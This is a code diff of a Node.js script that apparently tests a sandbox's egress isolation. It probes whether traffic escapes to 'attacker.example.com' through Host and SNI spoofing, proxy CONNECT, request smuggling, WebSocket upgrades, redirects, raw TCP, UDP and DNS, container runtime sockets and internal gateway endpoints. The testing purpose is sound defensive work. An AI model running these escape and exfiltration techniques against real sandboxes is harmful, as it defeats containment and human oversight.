@@ -7,43 +7,87 @@ import net from 'node:net';
 import tls from 'node:tls';
 
 const { tenant, other, port, hostPort, hostAddresses, sockets, allowed } = JSON.parse(process.env.CANARY);
-const waitMs = 4_000;
+/** For an answer in HTTP, which comes however busy the machine is. */
+const answerWaitMs = 15_000;
+/** For what says nothing, mostly. */
+const silentWaitMs = 800;
+const atOnceMax = 12;
 
-function say(channel, what, came) {
-  process.stdout.write(
-    `${JSON.stringify({ channel, what, came: String(came).replaceAll(/\s+/g, ' ').slice(0, 400) })}\n`,
-  );
+const tries = [];
+/** Notes a try for later: all of them run together, a few at once. */
+function tell(channel, what, go) {
+  tries.push({ channel, what, go });
 }
 
-/** Sends bytes on a connection and resolves with what came back, or why nothing did. */
-function exchange(socket, bytes, untilText = null) {
+async function runAll() {
+  const queue = tries.entries();
+  const runner = async () => {
+    for (const [at, { channel, what, go }] of queue) {
+      const came = await Promise.resolve(go()).catch((error) => `no: ${error.code ?? error.message}`);
+      const text = String(came).replaceAll(/\s+/g, ' ').slice(0, 2_000);
+      process.stdout.write(`${JSON.stringify({ at, channel, what, came: text })}\n`);
+    }
+  };
+  await Promise.all(Array.from({ length: atOnceMax }, runner));
+}
+
+/** Where the first whole HTTP answer in `text` ends; -1 when it has not ended, or ends with its connection. */
+function answerEnd(text) {
+  const bodyAt = text.indexOf('\r\n\r\n') + 4;
+  if (bodyAt < 4) return -1;
+  const head = text.slice(0, bodyAt);
+  if (/^HTTP\/1\.\d (?:1\d\d|204|304)/.test(head)) return bodyAt;
+  const length = /^content-length: *(\d+)/im.exec(head)?.[1];
+  if (length !== undefined) return text.length < bodyAt + Number(length) ? -1 : bodyAt + Number(length);
+  if (!/^transfer-encoding: *chunked/im.test(head)) return -1;
+  for (let at = bodyAt; ;) {
+    const line = /^([0-9a-f]+)[^\n]*\r\n/i.exec(text.slice(at, at + 100));
+    if (line === null) return -1;
+    const size = Number.parseInt(line[1], 16);
+    at += line[0].length + size + 2;
+    if (at > text.length) return -1;
+    if (size === 0) return at;
+  }
+}
+
+/** Sends bytes on a connection and resolves with what came back, at the latest after as many whole answers. */
+function exchange(socket, bytes, { waitMs = answerWaitMs, answers = 1 } = {}) {
   return new Promise((resolve) => {
     let got = '';
+    let readTo = 0;
+    let left = answers;
     const done = (why) => {
+      clearTimeout(timer);
       socket.destroy();
       resolve(got === '' ? why : got);
     };
     const timer = setTimeout(() => done('nothing in time'), waitMs);
-    socket.on('connect', () => socket.write(bytes));
-    socket.on('secureConnect', () => socket.write(bytes));
+    const ready = socket instanceof tls.TLSSocket ? 'secureConnect' : 'connect';
+    socket.on(ready, () => socket.write(bytes));
     socket.on('data', (chunk) => {
       got += chunk.toString('latin1');
-      if (untilText !== null && got.includes(untilText)) done('');
+      for (let end = answerEnd(got.slice(readTo)); end >= 0; end = answerEnd(got.slice(readTo))) {
+        readTo += end;
+        left--;
+      }
+      if (left <= 0) done('');
     });
-    socket.on('error', (error) => (clearTimeout(timer), done(`no: ${error.code ?? error.message}`)));
-    socket.on('close', () => (clearTimeout(timer), done('closed')));
+    socket.on('error', (error) => done(`no: ${error.code ?? error.message}`));
+    socket.on('close', () => done('closed'));
   });
 }
 
 const get = (host, path = '/canary', more = '') =>
   `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;
 const plain = (dial, bytes, at = 80) => exchange(net.connect({ host: dial, port: at }), bytes);
+const silent = (dial, bytes, at) => exchange(net.connect({ host: dial, port: at }), bytes, { waitMs: silentWaitMs });
 const secure = (dial, servername, bytes) =>
   exchange(tls.connect({ host: dial, port: 443, servername, rejectUnauthorized: false }), bytes);
 
 // The control: what is allowed does get out, so the rest is not blocked by accident.
-say('control', `http ${allowed}`, await plain(allowed, get(allowed)));
-say('control', `https ${allowed}`, await secure(allowed, allowed, get(allowed)));
+tell('control', `http ${allowed}`, () => plain(allowed, get(allowed)));
+tell('control', `https ${allowed}`, () => secure(allowed, allowed, get(allowed)));
+tell('control', `https ${allowed}:443`, () => secure(allowed, allowed, get(`${allowed}:443`)));
 
 const hosts = [
   'attacker.example.com',
@@ -105,59 +149,45 @@ const hosts = [
   `localhost:${port}`,
   `127.0.0.1:${hostPort}`,
   `${allowed}:8080`,
-  `${allowed}:443`,
+  `${allowed}:8443`,
 ];
 for (const host of hosts) {
-  say('http, Host header', host, await plain(allowed, get(host)));
+  tell('http, Host header', host, () => plain(allowed, get(host)));
   if (!host.includes('[') && !host.includes('@'))
-    say('http, by name', host, await plain(host.replace(/:\d+$/, ''), get(host)));
-  say('https, Host header', host, await secure(allowed, allowed, get(host)));
+    tell('http, by name', host, () => plain(host.replace(/:\d+$/, ''), get(host)));
+  tell('https, Host header', host, () => secure(allowed, allowed, get(host)));
 }
+tell('http, Host header', `${allowed}:443`, () => plain(allowed, get(`${allowed}:443`)));
+tell('https, Host header', `${allowed}:80`, () => secure(allowed, allowed, get(`${allowed}:80`)));
 for (const name of ['attacker.example.com', '127.0.0.1.nip.io', `${other}.localhost`])
-  say('https, SNI', name, await secure(allowed, name, get(name)));
-say('https, SNI and Host differ', 'attacker.example.com', await secure(allowed, allowed, get('attacker.example.com')));
+  tell('https, SNI', name, () => secure(allowed, name, get(name)));
+tell('https, SNI and Host differ', 'attacker.example.com', () => secure(allowed, allowed, get('attacker.example.com')));
 
 const absolute = `GET http://attacker.example.com/canary HTTP/1.1\r\nHost: ${allowed}\r\nConnection: close\r\n\r\n`;
-say('proxy', 'absolute form', await plain(allowed, absolute));
-say(
-  'proxy',
-  'CONNECT through an allowed host',
-  await plain(allowed, `CONNECT attacker.example.com:443 HTTP/1.1\r\nHost: attacker.example.com:443\r\n\r\n`),
+tell('proxy', 'absolute form', () => plain(allowed, absolute));
+tell('proxy', 'CONNECT through an allowed host', () =>
+  plain(allowed, `CONNECT attacker.example.com:443 HTTP/1.1\r\nHost: attacker.example.com:443\r\n\r\n`),
 );
-for (const at of [3128, 8080, 1080, 9050]) say('proxy', `port ${at}`, await plain(allowed, get(allowed), at));
-say(
-  'methods',
-  `POST ${allowed}`,
-  await plain(
-    allowed,
-    `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret`,
-  ),
+for (const at of [3128, 8080, 1080, 9050]) tell('proxy', `port ${at}`, () => silent(allowed, get(allowed), at));
+tell('methods', `POST ${allowed}`, () =>
+  plain(allowed, `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret`),
 );
-say('methods', `TRACE ${allowed}`, await plain(allowed, get(allowed).replace('GET', 'TRACE')));
-say(
-  'methods',
-  `PUT ${allowed}`,
-  await plain(allowed, `PUT /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`),
+tell('methods', `TRACE ${allowed}`, () => plain(allowed, get(allowed).replace('GET', 'TRACE')));
+tell('methods', `PUT ${allowed}`, () =>
+  plain(allowed, `PUT /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`),
 );
 
 const second = get('attacker.example.com', '/second');
-say(
-  'one connection',
-  'allowed, then not',
-  await exchange(net.connect({ host: allowed, port: 80 }), get(allowed).replace('Connection: close\r\n', '') + second),
+tell('one connection', 'allowed, then not', () =>
+  exchange(net.connect({ host: allowed, port: 80 }), get(allowed).replace('Connection: close\r\n', '') + second, {
+    answers: 2,
+  }),
 );
-say(
-  'one connection',
-  'two Host headers',
-  await plain(
-    allowed,
-    `GET /canary HTTP/1.1\r\nHost: ${allowed}\r\nHost: attacker.example.com\r\nConnection: close\r\n\r\n`,
-  ),
+tell('one connection', 'two Host headers', () =>
+  plain(allowed, `GET /canary HTTP/1.1\r\nHost: ${allowed}\r\nHost: attacker.example.com\r\nConnection: close\r\n\r\n`),
 );
-say(
-  'one connection',
-  'a length and chunks',
-  await plain(
+tell('one connection', 'a length and chunks', () =>
+  plain(
     allowed,
     `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
   ),
@@ -165,10 +195,8 @@ say(
 
 const upgrade = 'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
 for (const host of ['attacker.example.com', '127.0.0.1', `${other}.localhost`, allowed])
-  say(
-    'WebSocket',
-    host,
-    await plain(allowed, get(host, '/canary', upgrade).replace('Connection: close', 'Connection: Upgrade')),
+  tell('WebSocket', host, () =>
+    plain(allowed, get(host, '/canary', upgrade).replace('Connection: close', 'Connection: Upgrade')),
   );
 
 // The client follows what an allowed host says, as most do.
@@ -177,20 +205,17 @@ for (const to of [
   `http://${other}.localhost/`,
   'http://attacker.example.com/',
 ]) {
-  const answer = await plain(allowed, get(allowed, `/redirect?to=${encodeURIComponent(to)}`));
-  const next = /^location: (.*)$/im.exec(answer)?.[1]?.trim();
-  say(
-    'redirect',
-    to,
-    next === undefined
-      ? `not redirected: ${answer}`
-      : await plain(allowed, get(new URL(next).host, new URL(next).pathname)),
-  );
+  tell('redirect', to, async () => {
+    const answer = await plain(allowed, get(allowed, `/redirect?to=${encodeURIComponent(to)}`));
+    const next = /^location: (.*)$/im.exec(answer)?.[1]?.trim();
+    if (next === undefined) return `not redirected: ${answer}`;
+    return plain(allowed, get(new URL(next).host, new URL(next).pathname));
+  });
 }
 
 for (const address of hostAddresses) {
-  say('TCP to the host machine', `${address}:${hostPort}`, await plain(address, get('x'), hostPort));
-  say('TCP to the platform', `${address}:${port}`, await plain(address, get('localhost'), port));
+  tell('TCP to the host machine', `${address}:${hostPort}`, () => silent(address, get('x'), hostPort));
+  tell('TCP to the platform', `${address}:${port}`, () => silent(address, get('localhost'), port));
 }
 for (const [address, at] of [
   ['8.8.8.8', 53],
@@ -200,22 +225,22 @@ for (const [address, at] of [
   ['8.8.8.8', 25],
   ['2606:4700:4700::1111', 443],
 ])
-  say('raw TCP', `${address}:${at}`, await plain(address, 'secret\r\n', at));
-say('not HTTP on 443', allowed, await plain(allowed, 'SSH-2.0-canary\r\n', 443));
-say('not HTTP on 80', allowed, await plain(allowed, 'EHLO canary\r\n', 80));
+  tell('raw TCP', `${address}:${at}`, () => silent(address, 'secret\r\n', at));
+tell('not HTTP on 443', allowed, () => silent(allowed, 'SSH-2.0-canary\r\n', 443));
+tell('not HTTP on 80', allowed, () => silent(allowed, 'EHLO canary\r\n', 80));
 
 function udp(address, at) {
   return new Promise((resolve) => {
     const socket = dgram.createSocket(address.includes(':') ? 'udp6' : 'udp4');
     const done = (came) => (clearTimeout(timer), socket.close(), resolve(came));
-    const timer = setTimeout(() => done('nothing in time'), 1_000);
+    const timer = setTimeout(() => done('nothing in time'), silentWaitMs);
     socket.on('message', (message) => done(message.toString('latin1')));
     socket.on('error', (error) => done(`no: ${error.code}`));
     socket.send('canary', at, address, (error) => error && done(`no: ${error.code}`));
   });
 }
 for (const address of [...hostAddresses, '8.8.8.8', '255.255.255.255', '224.0.0.251', '2001:4860:4860::8888'])
-  say('UDP', `${address}:${hostPort}`, await udp(address, hostPort));
+  tell('UDP', `${address}:${hostPort}`, () => udp(address, hostPort));
 
 async function resolve(server, type) {
   const resolver = new dns.promises.Resolver({ timeout: 1_000, tries: 1 });
@@ -226,8 +251,8 @@ async function resolve(server, type) {
   );
 }
 for (const type of ['A', 'TXT', 'MX', 'CNAME', 'NS', 'SRV'])
-  say('DNS', `own resolver, ${type}`, await resolve(null, type));
-for (const server of ['8.8.8.8', '1.1.1.1']) say('DNS', `${server}, TXT`, await resolve(server, 'TXT'));
+  tell('DNS', `own resolver, ${type}`, () => resolve(null, type));
+for (const server of ['8.8.8.8', '1.1.1.1']) tell('DNS', `${server}, TXT`, () => resolve(server, 'TXT'));
 
 for (const file of [
   ...sockets,
@@ -236,32 +261,24 @@ for (const file of [
   '/run/containerd/containerd.sock',
   '/run/dbus/system_bus_socket',
 ])
-  say(
-    'sockets',
-    file,
-    existsSync(file) ? await exchange(net.connect(file), 'GET /_ping HTTP/1.0\r\n\r\n') : 'no: not there',
-  );
+  tell('sockets', file, () => exchange(net.connect(file), 'GET /_ping HTTP/1.0\r\n\r\n', { waitMs: silentWaitMs }));
 for (const dir of ['/run', '/tmp', '/var/run']) {
   const found = existsSync(dir)
     ? readdirSync(dir, { recursive: true }).filter((name) => /sock/.test(String(name)))
     : [];
-  say('sockets', `in ${dir}`, found.length === 0 ? 'no: none' : found.join(' '));
+  tell('sockets', `in ${dir}`, () => (found.length === 0 ? 'no: none' : found.join(' ')));
 }
 for (const path of ['/status', '/snapshot', '/gateway/stop'])
-  say('keeper', path, await plain('127.0.0.1', get('127.0.0.1', path), 18_700));
-say('gateway', 'as nobody', await plain('127.0.0.1', get('127.0.0.1', '/api/sessions'), 18_789));
-say(
-  'own hosts',
-  'tenant.tidepool.internal/other',
-  await plain('tenant.tidepool.internal', get('tenant.tidepool.internal', '/other')),
+  tell('keeper', path, () => plain('127.0.0.1', get('127.0.0.1', path), 18_700));
+tell('gateway', 'as nobody', () => plain('127.0.0.1', get('127.0.0.1', '/api/sessions'), 18_789));
+tell('own hosts', 'tenant.tidepool.internal/other', () =>
+  plain('tenant.tidepool.internal', get('tenant.tidepool.internal', '/other')),
 );
-say(
-  'own hosts',
-  'ai.tidepool.internal/other',
-  await plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other')),
+tell('own hosts', 'ai.tidepool.internal/other', () =>
+  plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other')),
 );
-say(
-  'own hosts',
-  'another run claimed',
-  await plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other', 'x-tidepool-internal-incarnation: 99\r\n')),
+tell('own hosts', 'another run claimed', () =>
+  plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other', 'x-tidepool-internal-incarnation: 99\r\n')),
 );
+
+await runAll();
